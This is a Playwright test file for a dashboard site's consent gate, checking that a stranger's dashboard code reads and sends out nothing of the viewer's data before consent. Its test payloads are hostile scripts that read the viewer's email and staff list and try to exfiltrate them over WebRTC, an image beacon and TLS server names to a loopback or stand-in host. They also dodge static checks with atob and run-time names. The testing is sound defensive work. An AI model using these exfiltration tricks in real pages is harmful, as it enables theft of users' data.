import { expect, test, type Browser, type Page } from "@playwright/test";
import { expectNoSeriousViolations } from "./support/axe";
import { Canaries } from "./support/canary";
import { ConsentGatePage } from "./support/consent";
import { PlaygroundEditorPage } from "./support/editor-page";
import { describeCounts, heard, LoopbackListeners, reached, type ListenerTarget } from "./support/listeners";
import { SignInPage } from "./support/pages";
import { SavedDashboardPage } from "./support/saved-page";
import { DraftAuthor, WatchPage } from "./support/watch-page";
import { peoplesChromium } from "./support/chromium";

// Someone else's dashboard reads the viewer's live data only after the viewer agrees, and then
// only the paths it was shown. Until then no frame exists: a hostile dashboard opened by the
// admin sends nothing anywhere — counted at the socket, not at the HTTP layer. Silence is read
// once the browser's canaries have reached the listeners (support/canary.ts), after the
// dashboard marked that it made its last attempt, or while no frame exists for it to run in.

let listeners: LoopbackListeners;
let canaries: Canaries;
let target: ListenerTarget;
// Hostile dashboards try every way out before consent, in the browser people have
// (e2e/support/chromium.ts), whose browser layer is one more way.
test.use({ launchOptions: peoplesChromium });

test.beforeEach(async ({ browser }) => {
  listeners = new LoopbackListeners();
  canaries = new Canaries(browser, listeners);
  target = await listeners.target("consent");
});
test.afterEach(async () => {
  await canaries.close();
  await listeners.close();
});

/** Nothing at all reached the listeners, which have heard the browser's canaries: no connection, hello, datagram or byte. */
async function expectSilence(): Promise<void> {
  await canaries.send([target], { udp: true });
  const c = listeners.counts("consent");
  expect(reached(c), describeCounts(c)).toBe(false);
}

/**
 * Reads the viewer's email and the admin-only staff list, tries a read its code does not name,
 * then aims the data at the listeners over WebRTC and an image.
 */
function hostile(label: string): string {
  return `<!doctype html><title>${label}</title>
<p id="got">waiting</p><p id="extra">waiting</p><p id="rtc">waiting</p>
<script>
(async () => {
  const API = window.DASHBOARD_API_BASE || "/api";
  const res = await fetch(API + "/me");
  const me = res.ok ? await res.json() : { email: "status-" + res.status };
  const staff = await fetch(API + "/crm/users/contacts");
  const secret = me.email + "|" + (staff.ok ? (await staff.text()).length : staff.status);
  document.getElementById("got").textContent = me.email;
  // A path built where the check cannot read it: refused on live data.
  const extra = await fetch(API + atob("L21lL2Zhdm91cml0ZXM="));
  document.getElementById("extra").textContent = String(extra.status);
  try {
    const hex = Array.from(new TextEncoder().encode(secret)).map((b) => b.toString(16).padStart(2, "0")).join("").slice(0, 200);
    // Named at run time, past the static check (which refuses saving a WebRTC dashboard): only
    // the frame's bootstrap stands in the way.
    const PC = window[["RTC", "Peer", "Connection"].join("")];
    const pc = new PC({ iceServers: [] });
    pc.createDataChannel("x");
    await pc.setLocalDescription(await pc.createOffer());
    await pc.setRemoteDescription({ type: "answer", sdp: ["v=0", "o=- 1 2 IN IP4 127.0.0.1", "s=-", "t=0 0", "a=group:BUNDLE 0",
      "m=application 9 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 127.0.0.1", "a=mid:0", "a=ice-ufrag:" + hex.slice(0, 32),
      "a=ice-pwd:" + "p".repeat(24), "a=fingerprint:sha-256 " + Array(32).fill("AA").join(":"), "a=setup:active", "a=sctp-port:5000", ""].join("\\r\\n") });
    await pc.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 127.0.0.1 ${"${UDP}"} typ host", sdpMid: "0", sdpMLineIndex: 0 });
    document.getElementById("rtc").textContent = "sent";
  } catch (e) {
    document.getElementById("rtc").textContent = "blocked " + (e && e.name);
  }
  // A navigation would replace this document; the frame-escape suite measures that channel.
  const img = new Image();
  img.src = "http://127.0.0.1:${"${TCP}"}/leak?s=" + encodeURIComponent(secret);
  document.body.append(img);
  // Every attempt is made once two frames have rendered after the last.
  await new Promise((resolve) => { requestAnimationFrame(() => requestAnimationFrame(resolve)); setTimeout(resolve, 250); });
  document.documentElement.setAttribute("data-attempts", "made");
})();
</script>`;
}

const armed = (html: string) =>
  html.replaceAll("${UDP}", String(target.udpPort)).replaceAll("${TCP}", String(target.tcpPort)).replaceAll("${TLS}", String(target.tlsPort));

/**
 * Reads the viewer's email and the admin-only staff list through a computed path, then sends the
 * email and the list's size out as the TLS server name of a navigation of the frame itself: the
 * channel no frame can close (docs/frame.md, residual risks). Whatever data it was given
 * leaves; the question is whose. (Not the list itself: the demo's staff list names the demo
 * people, admin@demo.test among them, while the demo's /me never is the admin.)
 */
function exfiltrating(label: string): string {
  return `<!doctype html><title>${label}</title><p id="got">waiting</p>
<script>
(async () => {
  const API = window.DASHBOARD_API_BASE || "/api";
  const me = await fetch(API + "/me").then((r) => (r.ok ? r.json() : { email: "status-" + r.status }));
  const instance = ["us", "ers"].join("");
  const staff = await fetch(API + "/crm/" + instance + "/contacts");
  const secret = me.email + "|" + staff.status + "|" + (staff.ok ? (await staff.text()).length : 0);
  document.getElementById("got").textContent = me.email;
  const hex = Array.from(new TextEncoder().encode(secret)).map((b) => b.toString(16).padStart(2, "0")).join("");
  location.href = "https://" + hex.match(/.{1,60}/g).join(".") + ".leak.test:\${TLS}/";
})();
</script>`;
}

/** Waits until a TLS server name reached the listeners, and answers everything heard, decoded. */
async function leaked(): Promise<string> {
  await expect.poll(() => listeners.counts("consent").sni.length, { timeout: 15_000 }).toBeGreaterThan(0);
  await canaries.send([target], { udp: true });
  return heard(listeners.counts("consent")).join("\n");
}

async function signIn(page: Page, email: string, next: string): Promise<void> {
  await new SignInPage(page).open(next);
  await new SignInPage(page).signInAs(email);
}

/** Every request the page itself sends to the viewer's API. */
function apiRequests(page: Page): string[] {
  const seen: string[] = [];
  page.on("request", (r) => {
    const u = new URL(r.url());
    if (u.pathname.startsWith("/api/")) seen.push(u.pathname);
  });
  return seen;
}

test("a hostile live draft opened by the admin reads and sends nothing until the admin agrees", async ({ page, request }) => {
  const draft = await new DraftAuthor(request).create(armed(hostile("Staff")), { dataMode: "live" });
  const api = apiRequests(page);
  await signIn(page, "admin@demo.test", new URL(draft.watchUrl).pathname);
  const watch = new WatchPage(page);
  const consent = new ConsentGatePage(page);

  // Drawn by the site at first (the next test's subject); interactive, it is today's gate.
  await expect(watch.safeView()).toBeVisible();
  await watch.makeInteractive();
  await expect(consent.gate()).toBeVisible();
  await expect(consent.gate()).toContainText("anonymous author");
  await expect(consent.paths()).toHaveText([/^\/crm\/users\/contacts/, /^\/me/]);
  await expect(consent.gate()).toContainText("can send anything it reads out of your browser");
  // The read it builds from atob cannot be shown, and the gate says so.
  await expect(page.getByTestId("consent-incomplete")).toBeVisible();
  await expect(watch.provenance()).toContainText("waiting for your consent");
  await expect(page.getByTestId("consent-gate").getByRole("heading")).toBeFocused();
  await expectNoSeriousViolations(page);
  // Nothing runs: no frame, no read of the viewer's API, nothing at the listeners.
  await expect(watch.frameElement()).toHaveCount(0);
  await expectSilence();
  await expect(watch.frameElement()).toHaveCount(0);
  expect(api).toEqual([]);

  // Declining shows it on demo data: the frame runs, the viewer's API is never asked.
  await consent.showWithDemoData();
  await expect(consent.declined()).toBeVisible();
  await expect(watch.dashboard().locator("#got")).not.toHaveText("waiting", { timeout: 15_000 });
  await expect(watch.dashboard().locator("#got")).not.toHaveText("admin@demo.test");
  await expect(watch.provenance()).toContainText("demo data instead of yours");
  expect(api).toEqual([]);

  // Asked again and agreed: the admin's own data, and only the paths shown.
  await consent.declined().getByRole("button", { name: "Ask me again" }).click();
  await expect(consent.gate()).toBeVisible();
  await consent.runWithMyData();
  await expect(watch.dashboard().locator("#got")).toHaveText("admin@demo.test", { timeout: 15_000 });
  await expect(watch.dashboard().locator("#extra")).toHaveText("403");
  await watch.openRequestLog();
  await expect(watch.requestLogEntries().filter({ hasText: "/me/favourites" }).filter({ hasText: "live" })).toContainText("403");
  expect(api).toEqual(expect.arrayContaining(["/api/me", "/api/crm/users/contacts"]));
  expect(api).not.toContain("/api/me/favourites");
  // After consent too, WebRTC is gone and the image is blocked: still nothing at the listeners.
  await expect(watch.dashboard().locator("#rtc")).toHaveText(/^blocked/);
  await expect(watch.dashboard().locator("html")).toHaveAttribute("data-attempts", "made");
  await expectSilence();
});

test("a new revision that reads more asks again; one that reads the same keeps running", async ({ page, request }) => {
  // Three revisions, each rendered in the frame: past 30 s once on the loaded two-core machine.
  test.setTimeout(60_000);
  const author = new DraftAuthor(request);
  const reads = (paths: string[], label: string) =>
    `<!doctype html><title>x</title><p id="label">${label}</p><script>const API = window.DASHBOARD_API_BASE || "/api";${paths
      .map((p) => `fetch(API + "${p}").then((r) => r.ok && r.json());`)
      .join("")}</script>`;
  const draft = await author.create(reads(["/me"], "one"), { dataMode: "live" });
  await signIn(page, "csm@demo.test", new URL(draft.watchUrl).pathname);
  const watch = new WatchPage(page);
  const consent = new ConsentGatePage(page);
  await watch.makeInteractive();
  await consent.runWithMyData();
  await expect(watch.dashboard().locator("#label")).toHaveText("one");
  // The gate had focus and is gone: focus moves on to the dashboard's region, not to the body.
  await expect(page.getByTestId("dashboard-region")).toBeFocused();
  await expect(page.getByRole("region", { name: await page.getByTestId("dashboard-frame").getAttribute("title") ?? "" })).toBeFocused();

  await author.update(draft, reads(["/me"], "two"));
  await expect(watch.dashboard().locator("#label")).toHaveText("two");
  await expect(consent.gate()).toHaveCount(0);

  await author.update(draft, reads(["/me", "/cx/owners"], "three"));
  await expect(consent.gate()).toBeVisible();
  await expect(consent.gate().getByRole("heading")).toHaveText(/changed/);
  await expect(consent.paths()).toHaveText([/^\/cx\/owners/, /^\/me/]);
  await expect(page.getByTestId("consent-incomplete")).toHaveCount(0);
  await consent.runWithMyData();
  await expect(watch.dashboard().locator("#label")).toHaveText("three");
  await expect(page.getByTestId("dashboard-region")).toBeFocused();
});

test("a live read the viewer's own setup refuses: the page above the frame links to /connections, since the dashboard cannot", { tag: "@member-state" }, async ({ page, request }) => {
  const html = `<!doctype html><title>Support and calls</title><p id="out">…</p><script>
const API = window.DASHBOARD_API_BASE || "/api";
Promise.all([fetch(API + "/vendors/support/conversations"), fetch(API + "/vendors/calls/calls"), fetch(API + "/me")]).then(async (rs) => {
  const bodies = await Promise.all(rs.map((r) => r.json()));
  document.getElementById("out").textContent = rs.map((r, i) => r.status + " " + (bodies[i].error || "ok")).join(", ");
});
</script>`;
  const draft = await new DraftAuthor(request).create(html, { dataMode: "live" });
  // The member has connected nothing and not opted in to call recordings.
  await signIn(page, "member@demo.test", new URL(draft.watchUrl).pathname);
  const watch = new WatchPage(page);
  await watch.makeInteractive();
  await new ConsentGatePage(page).runWithMyData();
  await expect(watch.dashboard().locator("#out")).toHaveText("401 support_not_connected, 403 calls_not_opted_in, 200 ok");
  const notice = page.getByTestId("connect-notice");
  await expect(notice).toHaveAttribute("role", "status");
  await expect(notice).toHaveText(
    "This dashboard reads customer messaging, which you have not connected. This dashboard reads call recordings, which you have not opted in to. Connect on the Connections page",
  );
  await expect(notice.getByRole("link", { name: "Connect on the Connections page" })).toHaveAttribute("href", "/connections");

  // The same dashboard on demo data names nothing: demo answers are not the viewer's setup.
  const demo = await new DraftAuthor(request).create(html);
  await watch.open(demo.watchUrl);
  await expect(watch.dashboard().locator("#out")).toContainText("200 ok");
  await expect(page.getByTestId("connect-notice")).toHaveText("");
  await expectNoSeriousViolations(page);
});

/**
 * csm saves the dashboard straight from a page of theirs, its code never run in csm's browser:
 * whatever the listeners then hear came from someone's viewing of it.
 */
async function savedUnseenByCsm(browser: Browser, baseURL: string, html: string, slug: string): Promise<string> {
  const context = await browser.newContext({ baseURL });
  try {
    const page = await context.newPage();
    await signIn(page, "csm@demo.test", "/dashboards/playground");
    const csrf = /csrf\\?":\\?"([A-Za-z0-9_-]+)/.exec(await (await page.request.get("/dashboards/playground")).text())?.[1];
    expect(csrf, "the playground page carries the CSRF token").toBeTruthy();
    const res = await page.request.post(`/~/csm/${slug}`, {
      headers: { "content-type": "text/html", "x-csrf-token": csrf!, "sec-fetch-site": "same-origin", origin: new URL(baseURL).origin },
      data: html,
    });
    expect(res.status(), await res.text()).toBe(201);
    return `/~/csm/${slug}`;
  } finally {
    await context.close();
  }
}

/** csm saves the dashboard from a demo draft's watch page, as a person does. */
async function savedByCsm(browser: Browser, baseURL: string, html: string, slug: string): Promise<string> {
  const context = await browser.newContext({ baseURL });
  try {
    const page = await context.newPage();
    const draft = await new DraftAuthor(page.request).create(html, { dash: slug });
    await signIn(page, "csm@demo.test", new URL(draft.watchUrl).pathname);
    await page.getByRole("button", { name: "Save to my space" }).click();
    const form = page.getByRole("form", { name: "Save to my space" });
    await form.getByRole("button", { name: "Save", exact: true }).click();
    await expect(form.getByRole("status")).toHaveText(`Saved revision 1 to /~/csm/${slug}`);
    return `/~/csm/${slug}`;
  } finally {
    await context.close();
  }
}

test("someone else's saved dashboard is drawn on the viewer's data with no question and no way out; made interactive it asks first, and trusting its author is remembered and can be taken back", { tag: "@csm-state" }, async ({ page, browser, baseURL }) => {
  // Two people sign in, one saves, and the other visits three times with three silence checks: on
  // a loaded two-core machine, as the first test of its chain, that took just over 30 s once.
  test.setTimeout(90_000);
  const slug = `staff-${Date.now().toString(36)}`;
  const path = await savedByCsm(browser, baseURL!, armed(hostile("Staff board")), slug);

  const api = apiRequests(page);
  await signIn(page, "admin@demo.test", path);
  const saved = new SavedDashboardPage(page);
  const consent = new ConsentGatePage(page);
  await expect(saved.heading()).toHaveText("Staff board");
  // Drawn by the site on the admin's own data, at once: no gate, no frame running its code here.
  await expect(saved.safeView()).toContainText("Drawn on your data by this site: the dashboard's own code did not run in your browser.");
  await expect(saved.drawn().locator("#got")).toHaveText("admin@demo.test", { timeout: 30_000 });
  // The drawing holds the code to the paths it names, as the live view does.
  await expect(saved.drawn().locator("#extra")).toHaveText("403");
  // No script, forms or same origin; a link the drawing kept may open a tab of its own (links.spec.ts).
  await expect(page.getByTestId("safe-view-frame")).toHaveAttribute("sandbox", "allow-popups allow-popups-to-escape-sandbox");
  const drawnHtml = await page.getByTestId("safe-view-frame").getAttribute("srcdoc");
  expect(drawnHtml).not.toMatch(/<script|\son[a-z]+=|javascript:|https?:\/\//i);
  await expect(consent.gate()).toHaveCount(0);
  await expect(page.getByTestId("dashboard-frame")).toHaveCount(0);
  await expectSilence();
  // The viewer's browser read nothing of theirs for it: the service did, in its own browser.
  expect(api).toEqual([]);
  // A drawing's reads answer only while it is being drawn, to its own random token, and only GET.
  const unknown = await page.request.get(`/dashboards/drawn/${"A".repeat(32)}/api/me`);
  expect(unknown.status()).toBe(404);
  expect(await unknown.json()).toMatchObject({ error: "not_found", hint: expect.any(String) });
  const write = await page.request.post(`/dashboards/drawn/${"A".repeat(32)}/api/me`, { data: "{}" });
  expect(write.status()).toBe(405);
  expect(await write.json()).toMatchObject({ error: "method_not_allowed" });
  expect((await page.request.get(`/dashboards/drawn/${"A".repeat(32)}`)).status()).toBe(404);

  // Interactive is today's view: someone else's code asks first.
  await saved.makeInteractive();
  await expect(consent.gate()).toContainText("/~/csm");
  await expect(consent.paths()).toHaveText([/^\/crm\/users\/contacts/, /^\/me/]);
  await expect(saved.meta()).toContainText("waiting for your consent");
  await expect(page.getByTestId("dashboard-frame")).toHaveCount(0);
  await expectSilence();
  expect(api).toEqual([]);

  await consent.choice("Always trust csm").click();
  await expect(saved.dashboard().locator("#got")).toHaveText("admin@demo.test", { timeout: 15_000 });
  await expect(saved.dashboard().locator("#extra")).toHaveText("403");
  await expect(saved.dashboard().locator("#rtc")).toHaveText(/^blocked/);
  await expect(saved.dashboard().locator("html")).toHaveAttribute("data-attempts", "made");
  await expectSilence();

  // Remembered on the server: the next visit runs at once, interactive, still held to the paths shown.
  await page.goto(path);
  await expect(saved.dashboard().locator("#got")).toHaveText("admin@demo.test", { timeout: 15_000 });
  await expect(saved.dashboard().locator("#extra")).toHaveText("403");
  await expect(consent.gate()).toHaveCount(0);
  await expect(saved.safeView()).toHaveCount(0);

  // Taken back from /connections: the site draws it again, and interactive asks again.
  await page.goto("/connections");
  const trusted = page.getByTestId("trusted-authors");
  await expect(trusted.getByTestId("trusted-author").filter({ hasText: "/~/csm" })).toHaveCount(1);
  await expectNoSeriousViolations(page);
  await trusted.getByRole("button", { name: "Stop trusting csm" }).click();
  await expect(trusted.getByRole("status")).toContainText("ask before they use your data again");
  await expect(trusted.getByTestId("trusted-author")).toHaveCount(0);
  await page.goto(path);
  await expect(saved.drawn().locator("#got")).toHaveText("admin@demo.test", { timeout: 30_000 });
  await saved.makeInteractive();
  await expect(consent.gate()).toBeVisible();
});

test("a saved dashboard that sends what it read out as TLS server names gets nothing out of the safe view, from the viewer's browser or the service's", { tag: "@csm-state" }, async ({ page, browser, baseURL }) => {
  test.setTimeout(90_000);
  const slug = `sni-${Date.now().toString(36)}`;
  const path = await savedUnseenByCsm(browser, baseURL!, armed(exfiltrating("Staff names")), slug);
  await signIn(page, "admin@demo.test", path);
  const saved = new SavedDashboardPage(page);
  // Drawn, or refused as a dashboard that never settles: either way the site says what happened.
  await expect(page.getByTestId("safe-view-frame").or(page.getByTestId("safe-view-status").filter({ hasText: /did not finish|could not be/ }))).toBeVisible({ timeout: 45_000 });
  await expect(saved.safeView()).toBeVisible();
  await expect(page.getByTestId("dashboard-frame")).toHaveCount(0);
  await expectSilence();
  expect(listeners.counts("consent").sni).toEqual([]);
});

test("a stranger's live draft's watch link is drawn on the signed-in viewer's data with no question and no way out, drawn again as revisions arrive; made interactive it asks first", async ({ page, request }) => {
  // Two drawings in the service's browser and three silence checks on a loaded two-core machine.
  test.setTimeout(90_000);
  const author = new DraftAuthor(request);
  const draft = await author.create(armed(hostile("Staff watch")), { dataMode: "live" });
  const api = apiRequests(page);
  await signIn(page, "admin@demo.test", new URL(draft.watchUrl).pathname);
  const watch = new WatchPage(page);
  const consent = new ConsentGatePage(page);
  // Drawn by the site on the admin's own data, at once: no gate, no frame running its code here.
  await expect(watch.safeView()).toContainText("Drawn on your data by this site: the dashboard's own code did not run in your browser.");
  await expect(watch.drawn().locator("#got")).toHaveText("admin@demo.test", { timeout: 30_000 });
  await expect(watch.drawn().locator("#extra")).toHaveText("403");
  await expect(watch.provenance()).toContainText("your live data, drawn by this site");
  const frame = page.getByTestId("safe-view-frame");
  await expect(frame).toHaveAttribute("sandbox", "allow-popups allow-popups-to-escape-sandbox");
  expect(await frame.getAttribute("srcdoc")).not.toMatch(/<script|\son[a-z]+=|javascript:|https?:\/\//i);
  await expect(consent.gate()).toHaveCount(0);
  await expect(watch.frameElement()).toHaveCount(0);
  await expectNoSeriousViolations(page);
  await expectSilence();
  // The viewer's browser read nothing of theirs for it: the service did, in its own browser.
  expect(api).toEqual([]);

  // The author writes a new revision: the watch page follows it, and the site draws it again.
  await author.update(draft, armed(hostile("Staff watch")).replace('<p id="got">', '<p id="rev">two</p><p id="got">'));
  await expect(watch.revision()).toHaveText("2");
  await expect(watch.drawn().locator("#rev")).toHaveText("two", { timeout: 30_000 });
  await expect(watch.drawn().locator("#got")).toHaveText("admin@demo.test");
  await expect(watch.frameElement()).toHaveCount(0);
  await expectSilence();
  expect(api).toEqual([]);

  // Interactive is today's view: an anonymous author's code asks first.
  await watch.makeInteractive();
  await expect(consent.gate()).toContainText("anonymous author");
  await expect(consent.paths()).toHaveText([/^\/crm\/users\/contacts/, /^\/me/]);
  await expect(watch.frameElement()).toHaveCount(0);
  await expectSilence();
  expect(api).toEqual([]);

  // In the browser that made the draft (which keeps its write capability) it is the author's own
  // code: not drawn, it runs as it does today.
  await page.evaluate(({ id, postUrl, watchUrl }) => localStorage.setItem(`dashboards:draft-write:${id}`, JSON.stringify({ postUrl, watchUrl })), draft);
  await page.reload();
  await expect(consent.gate()).toBeVisible();
  await expect(watch.safeView()).toHaveCount(0);
});

test("a stranger's live draft that sends what it read out as TLS server names gets nothing out of the watch link's safe view, from the viewer's browser or the service's", async ({ page, request }) => {
  test.setTimeout(90_000);
  const draft = await new DraftAuthor(request).create(armed(exfiltrating("Staff names")), { dataMode: "live" });
  await signIn(page, "admin@demo.test", new URL(draft.watchUrl).pathname);
  const watch = new WatchPage(page);
  // Drawn, or refused as a dashboard that never settles: either way the site says what happened.
  await expect(page.getByTestId("safe-view-frame").or(page.getByTestId("safe-view-status").filter({ hasText: /did not finish|could not be/ }))).toBeVisible({ timeout: 45_000 });
  await expect(watch.safeView()).toBeVisible();
  await expect(watch.frameElement()).toHaveCount(0);
  await expectSilence();
  expect(listeners.counts("consent").sni).toEqual([]);
});

test("the viewer's own saved dashboard, and any demo draft, run without asking", async ({ page, request }) => {
  await signIn(page, "csm@demo.test", "/~/csm/my-book");
  const saved = new SavedDashboardPage(page);
  await expect(saved.dashboard().locator("#rows tr").first()).toBeVisible({ timeout: 15_000 });
  await expect(new ConsentGatePage(page).gate()).toHaveCount(0);

  const draft = await new DraftAuthor(request).create(`<!doctype html><title>d</title><p id="x">demo</p>`);
  const watch = new WatchPage(page);
  await watch.open(draft.watchUrl);
  await expect(watch.dashboard().locator("#x")).toHaveText("demo");
  await expect(new ConsentGatePage(page).gate()).toHaveCount(0);
});

test("a stranger's live draft opened at its editor address runs on nothing of the viewer's: no click, no data", async ({ page, request }) => {
  const draft = await new DraftAuthor(request).create(armed(exfiltrating("Staff")), { dataMode: "live" });
  const api = apiRequests(page);
  await signIn(page, "admin@demo.test", `/dashboards/playground/d/${draft.id}`);
  const editor = new PlaygroundEditorPage(page);
  const consent = new ConsentGatePage(page);

  // The draft is on live data, so the preview asks; it never starts on the admin's data by itself.
  await expect(consent.gate()).toBeVisible();
  await expect(consent.gate()).toContainText("a playground draft");
  // The instance the code spells at run time (["us", "ers"].join("")) is read ahead: the question
  // names the staff list itself, not any instance's contacts.
  await expect(consent.paths()).toHaveText([/^\/crm\/users\/contacts/, /^\/me/]);
  await expect(page.locator('iframe[title="Dashboard preview"]')).toHaveCount(0);
  await expectSilence();
  expect(api).toEqual([]);

  // Demo data instead: the code runs, and what it sends out is the demo's, not the admin's.
  await consent.showWithDemoData();
  await expect(editor.dataMode()).toHaveValue("demo");
  const out = await leaked();
  expect(out).toContain("csm@demo.test");
  expect(out).not.toContain("admin@demo.test");
  expect(api).toEqual([]);
});

test("“Open in playground” on someone else's saved dashboard opens it on demo data, before or without consent", { tag: "@csm-state" }, async ({ page, browser, baseURL }) => {
  test.setTimeout(60_000);
  const slug = `leak-${Date.now().toString(36)}`;
  const path = await savedByCsm(browser, baseURL!, armed(exfiltrating("Staff board")), slug);
  const api = apiRequests(page);
  await signIn(page, "admin@demo.test", path);
  const consent = new ConsentGatePage(page);
  await expect(new SavedDashboardPage(page).safeView()).toBeVisible();
  // One click, the safe view still showing.
  await new SavedDashboardPage(page).action("Open in playground").click();
  await expect(page).toHaveURL(/\/dashboards\/playground$/);
  const editor = new PlaygroundEditorPage(page);
  await expect(editor.status()).toContainText("on demo data");
  await expect(editor.dataMode()).toHaveValue("demo");
  const out = await leaked();
  expect(out).toContain("csm@demo.test");
  expect(out).not.toContain("admin@demo.test");
  expect(api).toEqual([]);

  // Choosing live data asks, naming whose code it is, and reads nothing meanwhile.
  await editor.dataMode().selectOption("live");
  await expect(consent.gate()).toContainText(`/~/csm/${slug}, not yours`);
  await expect(consent.paths()).toHaveText([/^\/crm\/users\/contacts/, /^\/me/]);
  await expect(page.locator('iframe[title="Dashboard preview"]')).toHaveCount(0);
  expect(api).toEqual([]);
});

test("the editor's live mode: entered by the viewer's click, shows the paths, serves only them, asks again for new ones", async ({ page }) => {
  const api = apiRequests(page);
  await signIn(page, "csm@demo.test", "/dashboards/playground");
  const editor = new PlaygroundEditorPage(page);
  const consent = new ConsentGatePage(page);
  await editor.replaceWith(
    `<!doctype html><title>Mine</title><p id="me">waiting</p><p id="owners">waiting</p><p id="mode"></p><script>
const API = window.DASHBOARD_API_BASE;
document.getElementById("mode").textContent = window.DASHBOARD_DATA_MODE;
fetch(API + "/me").then((r) => r.json()).then((m) => { document.getElementById("me").textContent = m.email; });
</script>`,
  );
  await expect(editor.preview().locator("#me")).toHaveText("csm@demo.test");
  // The frame says which data the dashboard is on, so no dashboard compares URLs.
  await expect(editor.preview().locator("#mode")).toHaveText("demo");
  expect(api).toEqual([]);

  await editor.dataMode().selectOption("live");
  await expect(consent.gate()).toContainText("the code in this editor");
  await expect(consent.paths()).toHaveText([/^\/me/]);
  await expect(page.locator('iframe[title="Dashboard preview"]')).toHaveCount(0);
  expect(api).toEqual([]);
  await consent.runWithMyData();
  await expect(editor.preview().locator("#me")).toHaveText("csm@demo.test");
  await expect(editor.preview().locator("#mode")).toHaveText("live");
  expect(api).toEqual(["/api/me"]);

  // A new path typed in: shown beside the running preview, refused until allowed.
  await editor.append(`<script>fetch(window.DASHBOARD_API_BASE + "/cx/owners").then((r) => { document.getElementById("owners").textContent = String(r.status); });</script>`);
  await expect(consent.gate()).toContainText("The code now reads more of your data");
  await expect(consent.paths()).toHaveText([/^\/cx\/owners/]);
  await expect(editor.preview().locator("#owners")).toHaveText("403");
  expect(api).not.toContain("/api/cx/owners");
  // Typing goes on where it was: the question does not take the caret.
  await expect(editor.source()).toBeFocused();
  await consent.choice("Allow these reads").click();
  await expect(editor.preview().locator("#owners")).toHaveText("200");
  await expect(consent.gate()).toHaveCount(0);
  expect(api).toContain("/api/cx/owners");

  // Back to demo data and live again: the question comes back.
  await editor.dataMode().selectOption("demo");
  await editor.dataMode().selectOption("live");
  await expect(consent.gate()).toBeVisible();
  await consent.showWithDemoData();
  await expect(editor.dataMode()).toHaveValue("demo");
});

test("the page's ?p. values reach the drawing, each its own, as they reach the interactive view", { tag: "@csm-state" }, async ({ page, browser, baseURL }) => {
  const slug = `params-${Date.now().toString(36)}`;
  const html = `<!doctype html><title>Window</title><p id="days">none</p><script>document.getElementById("days").textContent = (window.DASHBOARD_PARAMS || {}).days || "none";</script>`;
  const path = await savedUnseenByCsm(browser, baseURL!, html, slug);
  await signIn(page, "admin@demo.test", `${path}?p.days=90`);
  const saved = new SavedDashboardPage(page);
  await expect(saved.drawn().locator("#days")).toHaveText("90", { timeout: 30_000 });
  await page.goto(`${path}?p.days=7`);
  await expect(saved.drawn().locator("#days")).toHaveText("7", { timeout: 30_000 });
  // The picture is of the same window.
  await expect(page.getByTestId("download-picture")).toHaveAttribute("href", /[?&]p\.days=7(&|$)/);
  await page.goto(path);
  await expect(saved.drawn().locator("#days")).toHaveText("none", { timeout: 30_000 });
});
